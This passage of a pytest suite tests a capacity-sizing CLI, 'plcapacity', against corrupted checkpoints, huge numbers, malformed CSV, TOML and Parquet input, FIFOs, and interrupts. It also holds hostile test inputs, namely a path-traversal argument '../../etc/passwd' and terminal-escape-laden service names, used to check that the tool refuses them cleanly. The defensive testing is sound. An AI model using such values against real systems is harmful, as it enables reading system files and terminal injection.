    "record-columns-list": lambda lines: lines[:1] + ['{"key": "k", "columns": [1], '
                                                      '"sha256": "0"}'] + lines[2:],
    "wrong-sha": lambda lines: lines[:1] + [lines[1].replace('"sha256": "', '"sha256": "f')]
    + lines[2:],
    "tampered-number": lambda lines: lines[:1] + [_tamper(lines[1]), _tamper(lines[2])]
    + lines[3:],
    "deep-record": lambda lines: lines + ["[" * 100_000 + "]" * 100_000],
    "huge-line": lambda lines: lines[:2] + ["x" * (20 << 20)] + lines[2:],
    "half-line": lambda lines: lines[:2] + [lines[2][:30]],
    "only-newlines": lambda lines: ["", "", ""],
}


@pytest.mark.parametrize("kind", [*CORRUPTIONS, "binary", "binary-after-header"])
def test_corrupt_checkpoints_are_refused_or_recomputed(tmp_path, finished_checkpoint, kind):
    args, checkpoint, output, reference = _checkpointed_run(tmp_path, finished_checkpoint)
    lines = checkpoint.read_text().splitlines()
    if kind == "binary":
        checkpoint.write_bytes(bytes(range(256)) * 100)
    elif kind == "binary-after-header":
        checkpoint.write_bytes((lines[0] + "\n").encode() + b"\xff\xfe\x00junk\n"
                               + "\n".join(lines[1:]).encode())
    else:
        checkpoint.write_text("\n".join(CORRUPTIONS[kind](lines)) + "\n")
    with EngineMeter() as meter:
        code, out, err = cli(args + ["--resume"])
    assert meter.trials <= 4 * 300, kind  # at most each of the 4 rows simulated again
    assert code in (0, 2), (kind, code, err)
    if code == 2:
        assert_one_clean_line(err)
        assert str(checkpoint) in err and "without --resume" in err, err
        assert len(err) < 500
    else:
        assert output.read_text() == reference, kind  # nothing damaged was trusted
        assert not checkpoint.exists()


# ------------------------------------------------------------------ 16. messages name things

def test_messages_name_the_field_or_file(tmp_path):
    calm = tmp_path / "calm.toml"
    calm.write_text(GOOD_TOML)
    checks = [
        (["size", "1000", "--headroom", "1e308"], "headroom"),
        (["size", "1000", "--headroom", "9e300"], "headroom"),
        (["size", "1e308"], "concurrent"),
        (["size", "1000", "--new-connections-per-s", "1e308"], "new_connections"),
        (["size", "1000", "--port-hold-s", "1e300"], "port_hold"),
        (["simulate", calm, "--years", "1e9", "--no-progress"], "years"),
        (["simulate", calm, "--years", "123456789", "--no-progress"], "years"),
        (["simulate", calm, "--chunk-size", "1e300", "--no-progress"], "chunk"),
    ]
    for argv, word in checks:
        with EngineMeter() as meter:
            code, out, err = cli(argv)
        if code in (0, 1) and not err.startswith("plcapacity: error"):
            continue  # a value the model can answer
        assert code in (1, 2), (argv, code, err)
        assert meter.calls == 0, argv  # refused before any work
        assert_one_clean_line(err)
        assert word.replace("_", "-") in err or word in err, (argv, err)
    for name, text, word in [
            ("p95.toml", GOOD_TOML.replace('duration = { law = "fixed", hours = 3 }',
                                           'duration = { law = "lognormal", median_hours = 1,'
                                           ' p95_hours = 1e30 }'), "p95_hours"),
            ("rate.toml", GOOD_TOML.replace("rate_per_year = 0.5", "rate_per_year = 1e300"),
             "outage"),  # the memory estimate; see test_hostile_failing.py
            ("mean.toml", GOOD_TOML.replace('duration = { law = "fixed", hours = 3 }',
                                            'duration = { law = "exponential", '
                                            'mean_hours = 1e305 }'), "mean_hours")]:
        (tmp_path / name).write_text(text)
        for command in (["exact"], ["simulate", "--no-progress", "--trials", "1000"]):
            code, _, err = refused_before_any_work([command[0], tmp_path / name,
                                                    *command[1:]])
            if code == 0 and command == ["exact"]:
                continue  # the exact model answers (always down)
            assert code == 2, (name, command, err)
            assert_one_clean_line(err)
            assert word in err, (name, err)


def test_parquet_nested_cells_and_non_utf8_csv_name_the_problem(tmp_path):
    """(A list column of numbers: see test_hostile_failing.py.)"""
    nested = tmp_path / "nested.parquet"
    pd.DataFrame({"service": [["x"], ["y"]], "concurrent_connections": [1.0, 2.0]}).to_parquet(
        nested)
    code, out, err = cli(["batch", nested, "--no-progress"])
    assert code in (0, 1, 2) and "Traceback" not in err and "internal" not in err, err
    latin = tmp_path / "latin.csv"
    latin.write_bytes("service,concurrent_connections\ncafé,10\n".encode("latin-1"))
    for argv in (["batch", latin], ["size", "--input", latin]):
        code, _, err = cli(argv)
        assert code == 2
        assert_one_clean_line(err)
        assert str(latin) in err and "UTF-8" in err


# ------------------------------------------------------------------ 17. extra CSV fields

@pytest.mark.parametrize("body", ["a,10,extra\n", "a,10\nb,20,,\n", "a,10,\"x,y\",z\n"])
def test_extra_fields_on_a_row_are_an_error(tmp_path, body):
    table = tmp_path / "extra.csv"
    table.write_text("service,concurrent_connections\n" + body)
    for argv in (["batch", table, "--no-progress"], ["size", "--input", table]):
        code, _, err = cli(argv)
        assert code == 2, (argv, err)
        assert_one_clean_line(err)
        assert str(table) in err


# ------------------------------------------------------------------ 18. terminal escapes

CONTROL_NAMES = ["\x1b[31mred", "\x07bell", "a\rb", "\x1b]0;title\x07", "\x9b31m",
                 "back\x08space", "nul\x00x", "\x1b[2J\x1b[H"]


def test_control_characters_are_never_printed_raw_in_messages(tmp_path):
    """The error:/warning: lines and stderr escape control characters (the summary table does
    not yet: see test_hostile_failing.py)."""
    rows = [dict(service=name + "-bad", concurrent_connections="-1") for name in CONTROL_NAMES]
    rows += [dict(service=name + "-big", concurrent_connections="1e19",
                  max_connections_per_vm="none") for name in CONTROL_NAMES[:2]]
    rows += [dict(service=name + "-ok", concurrent_connections="10") for name in CONTROL_NAMES]
    table = tmp_path / "ctl.json"
    pd.DataFrame(rows).to_json(table, orient="records")
    code, out, err = cli(["batch", table, "-o", tmp_path / "r.json", "--no-progress"])
    assert code == 1, err
    messages = [line for line in out.split("\n") if line.startswith(("error:", "warning:"))]
    assert len(messages) >= len(CONTROL_NAMES) + 2
    for stream in ["\n".join(messages), err]:
        for char in ("\x1b", "\x07", "\r", "\x08", "\x00", "\x9b"):
            assert char not in stream, (repr(char), stream[:300])
    bad_column = tmp_path / "ctl-column.csv"
    bad_column.write_text("service,\x1b[31mcolumn\nx,1\n")
    code, out, err = cli(["batch", bad_column, "--no-progress"])
    assert code == 2 and "\x1b" not in out + err
    code, out, err = cli(["exact", tmp_path / "\x1b[31mmissing.toml"])
    assert code == 2 and "\x1b" not in out + err


# ------------------------------------------------------------------ 19. stale temporaries

def _dead_pid():
    process = subprocess.Popen([sys.executable, "-c", "pass"])
    process.wait()
    return process.pid


def test_stale_temporaries_are_removed_and_live_ones_kept(tmp_path):
    table = batch_table(tmp_path / "t.csv", [dict(service="a", concurrent_connections="10")])
    live = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        for name in ("out.csv", "out.json", "we ird[1]*.parquet"):
            output = tmp_path / name
            stale = [tmp_path / f".{name}.{_dead_pid()}.tmp", tmp_path / f".{name}.999999999.tmp"]
            alive = tmp_path / f".{name}.{live.pid}.tmp"
            other = tmp_path / f".{name}.notapid.tmp"
            for path in [*stale, alive, other]:
                path.write_text("partial")
            code, _, err = cli(["batch", table, "-o", output, "--no-progress"])
            assert code == 0, err
            assert output.exists()
            for path in stale:
                assert not path.exists(), path
            assert alive.exists() and other.exists()
    finally:
        live.kill()
        live.wait()


# ------------------------------------------------------------------ property tests

@pytest.fixture(scope="module")
def imports_done(tmp_path_factory):
    """The traced calls below run after a first, untraced call of each: a first call imports
    what it needs (scipy for overflow probabilities: tens of MB traced)."""
    plc.size_table(pd.DataFrame({"service": ["a"], "concurrent_connections": ["1000"],
                                 "overflow_probability": ["1e-6"]}))
    path = tmp_path_factory.mktemp("warm") / "good.toml"
    path.write_text(GOOD_TOML)
    plc.load_deployment(path)


HYP = settings(max_examples=40, deadline=None,
               suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])

scalars = st.one_of(
    st.none(), st.booleans(), st.integers(), st.integers(min_value=-2 ** 2000,
                                                         max_value=2 ** 2000),
    st.floats(allow_nan=True, allow_infinity=True), st.text(max_size=30),
    st.sampled_from(HOSTILE_NUMBERS), st.binary(max_size=10), st.complex_numbers(),
    st.decimals(allow_nan=True), st.fractions())
nested = st.recursive(scalars, lambda inner: st.one_of(
    st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=5), inner, max_size=4)),
    max_leaves=12)


@HYP
@given(value=nested, low=st.one_of(st.none(), st.floats(-1e6, 1e6)),
       integer=st.booleans(), text=st.booleans())
def test_check_number_returns_a_number_or_one_value_error(value, low, integer, text):
    try:
        result = check_number(value, "field", low, integer=integer, text=text)
    except ValueError as error:
        message = str(error)
        assert "field" in message and "\n" not in message and len(message) < 500
        return
    assert isinstance(result, int if integer else (int, float))
    assert not isinstance(result, bool)
    assert np.isfinite(float(result))
    if low is not None:
        assert result >= low


cells = st.one_of(st.text(max_size=20), st.sampled_from(HOSTILE_NUMBERS + ["", "20%", "1e6",
                                                                           "2_000", "10,000"]))


@HYP
@given(concurrent=st.lists(cells, min_size=1, max_size=5), headroom=st.lists(cells, min_size=5,
                                                                             max_size=5),
       column=st.sampled_from(["headroom", "new_connections_per_s", "port_hold_s",
                               "vm_failures_tolerated", "consumer_endpoints",
                               "max_connections_per_vm", "overflow_probability", "zones"]))
def test_size_table_gives_each_row_a_result_or_an_error(imports_done, concurrent, headroom,
                                                        column):
    n = len(concurrent)
    frame = pd.DataFrame({"service": [f"s{i}" for i in range(n)],
                          "concurrent_connections": concurrent, column: headroom[:n]})
    result, peak = peak_bytes(plc.size_table, frame)
    assert peak < 16 << 20, peak  # a huge number in a cell allocates nothing in proportion
    assert len(result) == n
    errors = result["error"].fillna("") if "error" in result else pd.Series([""] * n)
    for message in errors:  # capped; huge numbers: see test_hostile_failing.py
        assert len(message) < 2000 and "\n" not in message


number_text = st.one_of(st.text(alphabet="0123456789-+_,.eE xinfa", max_size=12),
                        st.text(max_size=8), st.sampled_from(HOSTILE_NUMBERS))


@HYP
@given(text=number_text, option=st.sampled_from(["--headroom", "--new-connections-per-s",
                                                 "--port-hold-s", "--vm-failures-tolerated",
                                                 "--consumer-endpoints", "--top",
                                                 "--vm-hourly-usd", "--zones"]))
def test_cli_numbers_are_a_result_or_one_usage_line(text, option):
    code, out, err = cli(["size", "250000", f"{option}={text}", "--format", "csv"])
    assert code in (0, 1, 2), (text, code, err)
    if code == 2 or err.startswith("plcapacity: error"):
        assert_one_clean_line(err)


@HYP
@given(text=st.one_of(st.text(alphabet="0123456789-, _", max_size=7), st.text(max_size=6)),
       option=st.sampled_from(["--vms", "--nat-ips", "--pls"]))
def test_cli_int_lists_are_a_result_or_one_usage_line(text, option):
    argv = ["ceiling", "--vms", "1-4", "--nat-ips", "1", f"{option}={text}", "--format", "csv",
            "--no-enforce-limits"]
    code, out, err = cli(argv)
    # the work is bounded by the grid's rows (a refused grid: see test_ceiling_grids_are_bounded)
    rows = len(out.splitlines()) - 1 if code == 0 else 0
    assert rows <= MAX_GRID_ROWS, (text, rows)
    assert code in (0, 2), (text, code, err)
    if code == 2:
        assert_one_clean_line(err)


def toml_value(value) -> str:
    """A tiny TOML writer for generated values (inline tables and arrays)."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        return "nan" if value != value else ("inf" if value > 0 else "-inf") \
            if value in (float("inf"), float("-inf")) else repr(value)
    if isinstance(value, str):
        return json.dumps(value)
    if isinstance(value, list):
        return "[" + ", ".join(toml_value(v) for v in value) + "]"
    return "{" + ", ".join(f"{json.dumps(k)} = {toml_value(v)}" for k, v in value.items()) + "}"


toml_scalars = st.one_of(st.booleans(), st.integers(-2 ** 63, 2 ** 63 - 1),
                         st.floats(allow_nan=True), st.text(max_size=12),
                         st.sampled_from([0, 1, -1, 1e300, 1e-300, 5e9, "fixed", "exponential",
                                          "lognormal", "eastus", "pls-a", "pe-a"]))
toml_values = st.recursive(toml_scalars, lambda inner: st.one_of(
    st.lists(inner, max_size=3), st.dictionaries(st.sampled_from(
        ["law", "hours", "mean_hours", "median_hours", "p95_hours", "name", "region", "x"]),
        inner, max_size=3)), max_leaves=8)
TOML_KEYS = ["rate_per_year", "duration", "groups", "name", "region", "nat_ips", "backend_vms",
             "destination", "connections", "hours", "mode", "zones", "regions", "geography"]


@HYP
@given(key=st.sampled_from(TOML_KEYS), value=toml_values, where=st.integers(0, 10))
def test_generated_deployment_files_load_or_fail_in_one_line(imports_done, tmp_path_factory,
                                                              key, value, where):
    """A valid deployment with one key (re)set to a generated value at one place."""
    lines = GOOD_TOML.splitlines()
    headers = [i for i, line in enumerate(lines) if line.startswith("[")]
    at = headers[where % len(headers)] + 1
    lines = [line for line in lines if not line.startswith(f"{key} =")] if where > 5 else lines
    lines.insert(at if at <= len(lines) else len(lines), f"{key} = {toml_value(value)}")
    path = tmp_path_factory.mktemp("toml") / "gen.toml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    try:
        _, peak = peak_bytes(plc.load_deployment, path)
    except ValueError as error:  # FileNotFoundError/TableError are ValueErrors or OSErrors
        assert "\n" not in str(error).strip(), str(error)
        assert str(path) in str(error), str(error)
    else:  # a huge count in a file allocates nothing in proportion to it
        assert peak < 16 << 20, peak
    code, out, err = cli(["exact", path])
    assert code in (0, 2), (code, err)
    if code == 2:
        assert_one_clean_line(err)
        assert str(path) in err


@HYP
@given(document=st.dictionaries(st.sampled_from(["outages", "destinations", "endpoints",
                                                 "demand", "failover", "x"]),
                                 toml_values, max_size=5))
def test_random_deployment_documents_load_or_fail_in_one_line(tmp_path_factory, document):
    path = tmp_path_factory.mktemp("toml") / "doc.toml"
    path.write_text("".join(f"{k} = {toml_value(v)}\n" for k, v in document.items()))
    code, out, err = cli(["exact", path])
    assert code in (0, 2), (code, err)
    if code == 2:
        assert_one_clean_line(err)
        assert str(path) in err


@HYP
@given(text=st.one_of(st.text(max_size=200),
                      st.lists(st.lists(st.one_of(cells, st.text(alphabet='",\n\r ;', max_size=4)),
                                        min_size=1, max_size=4), max_size=5).map(
                          lambda rows: "service,concurrent_connections\n"
                          + "\n".join(",".join(r) for r in rows))))
def test_generated_csv_reads_as_a_table_or_one_error(tmp_path_factory, text):
    path = tmp_path_factory.mktemp("csv") / "gen.csv"
    path.write_text(text, encoding="utf-8", newline="")
    try:
        frame = read_table(path)
    except (TableError, FileNotFoundError) as error:
        assert str(path) in str(error) and "\n" not in str(error)
    else:
        assert isinstance(frame, pd.DataFrame)
    with EngineMeter() as meter:
        code, out, err = cli(["batch", path, "--no-progress", "--trials", "100", "--workers",
                              "1"])
    assert meter.trials <= 100 * 5  # at most five rows of 100 trials
    assert code in (0, 1, 2), (code, err)
    if code == 2:
        assert_one_clean_line(err)


# ------------------------------------------------------------------ hostile batch arguments

@pytest.mark.parametrize("extra, ok", [
    (["--seed", str(2 ** 300)], True), (["--seed", "-1"], False), (["--seed", "1e400"], False),
    (["--workers", "0"], False), (["--workers", "1e9"], False), (["--workers", "2"], True), (["--top", "-1"], False),
    (["--top", "1e15"], True), (["--top", "1e18"], False), (["--years", "1e9"], False),
    (["--trials", "0"], False),
    (["--trials", "1.5"], False), (["--trials", "nan"], False), (["--years", "-0"], False),
    (["--outage-profile", "../../etc/passwd"], None), (["--on-error", "ignore"], False)])
def test_hostile_batch_arguments(tmp_path, extra, ok):
    table = batch_table(tmp_path / "t.csv", [
        dict(service=f"s{i}", concurrent_connections="10", pe_regions="eastus;westus2")
        for i in range(3)])
    code, out, err = cli(["batch", table, "--no-progress", "--trials", "100", *extra])
    if ok:
        assert code == 0, err
    elif ok is None:  # refused for the run or for each row
        assert code in (1, 2) and "Traceback" not in err and "internal" not in err
        assert "outage_profile" in out + err or "outage-profile" in out + err
    else:
        assert code == 2, (extra, code, err)
        assert_one_clean_line(err)
        assert extra[0].lstrip("-").replace("-", "_") in err or extra[0] in err, err


def test_long_service_names_give_capped_messages(tmp_path):
    names = ["x" * 200_000, "y" * 50_000, "ok"]
    table = tmp_path / "long.csv"
    pd.DataFrame({"service": names, "concurrent_connections": ["-1", "1e30", "10"]}).to_csv(
        table, index=False)
    output = tmp_path / "long.json"
    code, out, err = cli(["batch", table, "-o", output, "--no-progress"])
    assert code == 1, err
    results = pd.read_json(output, orient="records", dtype=False)
    assert results.service.tolist() == names  # the value itself is kept exactly
    assert results.error.str.len().max() < 2000
    # the summary table pads every shown row to the longest name: (shown rows) x (longest)
    assert len(out) < (len(names) + 2) * max(map(len, names))


def test_checkpoint_path_taken_by_a_folder_is_one_line(tmp_path):
    table = batch_table(tmp_path / "t.csv", [dict(service="a", concurrent_connections="10",
                                                  pe_regions="eastus;westus2")])
    (tmp_path / "r.json.checkpoint.jsonl").mkdir()
    for resume in ([], ["--resume"]):
        code, _, err = cli(["batch", table, "-o", tmp_path / "r.json", "--no-progress",
                            "--trials", "100", *resume])
        assert code == 2
        assert_one_clean_line(err)
        assert "r.json.checkpoint.jsonl" in err


def test_fifos_are_never_opened(tmp_path):
    """A named pipe as the table or as a row's deployment would block a reader forever."""
    os.mkfifo(tmp_path / "pipe.csv")
    code, _, err = cli(["batch", tmp_path / "pipe.csv", "--no-progress"])
    assert code == 2
    assert_one_clean_line(err)
    assert "pipe.csv" in err
    os.mkfifo(tmp_path / "pipe.toml")
    code, results, _ = run_rows(tmp_path, [dict(service="fifo", concurrent_connections="10",
                                                deployment="pipe.toml")])
    assert code == 1 and results.loc["fifo", "status"] == "error"
    for command in ("exact", "simulate"):
        code, _, err = refused_before_any_work([command, tmp_path / "pipe.toml"])
        assert code == 2 and "pipe.toml" in err


def test_report_removes_stale_temporaries(tmp_path):
    table = batch_table(tmp_path / "t.csv", [dict(service="a", concurrent_connections="10")])
    stale = tmp_path / f".r.html.{_dead_pid()}.tmp"
    stale.write_text("partial")
    code, _, err = cli(["report", table, "-o", tmp_path / "r.html", "--trials", "100",
                        "--no-progress"])
    assert code == 0, err
    assert not stale.exists() and (tmp_path / "r.html").exists()


def test_checkpoint_survives_a_parquet_write_that_fails(tmp_path):
    """A passed-through column Parquet cannot hold (mixed structs and numbers) fails the final
    write: exit 2, one line naming the column, and the simulated rows are kept."""
    table = tmp_path / "m.json"
    table.write_text(json.dumps([
        {"service": "a", "concurrent_connections": 10, "pe_regions": "eastus;westus2",
         "note": 1},
        {"service": "b", "concurrent_connections": 10, "pe_regions": "eastus;westus2",
         "note": {"x": [1, "a"]}}]))
    output = tmp_path / "r.parquet"
    code, _, err = cli(["batch", table, "--passthrough", "-o", output, "--trials", "200",
                        "--seed", "1", "--no-progress", "--workers", "1"])
    assert code == 2
    assert_one_clean_line(err)
    assert "note" in err
    assert not output.exists()
    checkpoint = Path(f"{output}.checkpoint.jsonl")
    assert len(checkpoint.read_text().splitlines()) == 3


@pytest.mark.slow
def test_ctrl_c_to_the_process_group_with_worker_processes(tmp_path):
    """A terminal's Ctrl-C reaches every process of the group, the workers included."""
    table = availability_table(tmp_path / "t.csv", 6)
    output = tmp_path / "o.csv"
    checkpoint = Path(f"{output}.checkpoint.jsonl")
    run = subprocess.Popen([sys.executable, "-m", "plcapacity", "batch", str(table), "-o",
                            str(output), "--trials", "1000000", "--seed", "1", "--workers", "2",
                            "--no-progress"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           text=True, env=ENV, cwd=ROOT, start_new_session=True)
    wait_for_checkpoint_lines(run, checkpoint, 2)
    assert run.poll() is None, "the run ended before it could be interrupted"
    os.killpg(run.pid, signal.SIGINT)
    _, err = run.communicate(timeout=60)
    assert run.returncode == 130, err
    assert "Traceback" not in err and err.count("\n") == 1, err
    assert str(checkpoint) in err and checkpoint.exists() and not output.exists()
